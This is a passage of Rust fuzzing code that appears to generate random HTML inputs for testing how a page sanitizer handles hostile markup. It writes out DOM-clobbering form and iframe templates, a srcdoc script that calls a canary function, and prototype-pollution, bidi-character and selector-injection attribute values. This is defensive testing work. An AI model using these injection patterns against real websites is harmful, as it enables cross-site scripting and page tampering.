        6 => format!(
            "<article><form id=f name={outer}><{second} name={inner}></{second}><{second} name={inner}>{payload}</{second}></form></article>"
        ),
        _ => format!(
            "<iframe name={outer} srcdoc='<iframe name={inner} srcdoc=\"<script>top.__ran({{N}})</script>\"></iframe>'></iframe><{first} id={outer}>"
        ),
    }
}

/// Elements of an explainer's with what other scripts act on.
fn gadgets(random: &mut Random) -> String {
    let chosen: Vec<_> = (0..=random.below(3)).map(|_| GADGETS[random.below(GADGETS.len())]).collect();
    gadgeted(random, &chosen)
}

fn gadgeted(random: &mut Random, gadgets: &[(&str, &str)]) -> String {
    let tag = random.of(&[
        "a href={H}/seen/{N}/gadget",
        "a href=#x",
        "p",
        "div class=island",
        "details class=panel",
        "span",
        "svg",
        "article",
        "summary",
        "td",
    ]);
    let mut html = format!("<{tag}");
    for (name, value) in gadgets {
        attribute(random, &mut html, name, value);
    }
    format!("{html}>x</{}>", tag.split(' ').next().unwrap_or_default())
}

/// What an explainer may have, with values that it never has.
fn values(random: &mut Random, names: &Names) -> String {
    let tag = random.of(&[
        "article",
        "section",
        "h1",
        "p",
        "div",
        "span",
        "a",
        "details",
        "summary",
        "figure",
        "table",
        "td",
        "time",
        "data",
        "svg",
        "output",
        "ol",
        "li",
        "sup",
        "sidelight-panel",
        "small",
    ]);
    let mut html = format!("<{tag}");
    for _ in 0..=random.below(4) {
        let name = random.of(&[
            "id",
            "class",
            "href",
            "lang",
            "dir",
            "role",
            "tabindex",
            "datetime",
            "value",
            "hidden",
            "width",
            "height",
            "viewBox",
            "x",
            "overflow",
            "data-island",
            "data-state",
            "data-kind",
            "aria-label",
            "aria-live",
            "aria-hidden",
            "name",
            "open",
            "part",
            "download",
            "for",
        ]);
        let value = match random.below(9) {
            0 => "x".repeat(1 << random.below(13)),
            1 => random.string(&names.read).to_owned(),
            2 => random
                .of(&[
                    "__proto__",
                    "constructor",
                    "prototype",
                    "sidelight",
                    "toString",
                    "then",
                    "length",
                    "e",
                    "place",
                    "canary",
                ])
                .to_owned(),
            3 => random
                .of(&[
                    "\0",
                    "\u{202e}x",
                    "\u{feff}",
                    "\u{ffff}",
                    "\u{10ffff}",
                    "&#xd800;",
                    "&#x110000;",
                    "\u{2066}",
                    "'\"<>&`",
                    "]]>",
                    "--",
                ])
                .to_owned(),
            4 => random.of(&["-1", "99999999999", "1e9", "NaN", "2147483647", "-0", "0x7f", "100%"]).to_owned(),
            5 => random
                .of(&["alert", "application", "dialog", "none", "presentation", "all", "auto", "fixed", "manual"])
                .to_owned(),
            6 => address(random),
            7 => format!("{}\"],[data-island", random.of(&["toolbar", "embed-this", "figure-x"])),
            _ => random.of(SCRIPTS).to_owned(),
        };
        attribute(random, &mut html, name, &value);
    }
    format!("{html}>x")
}
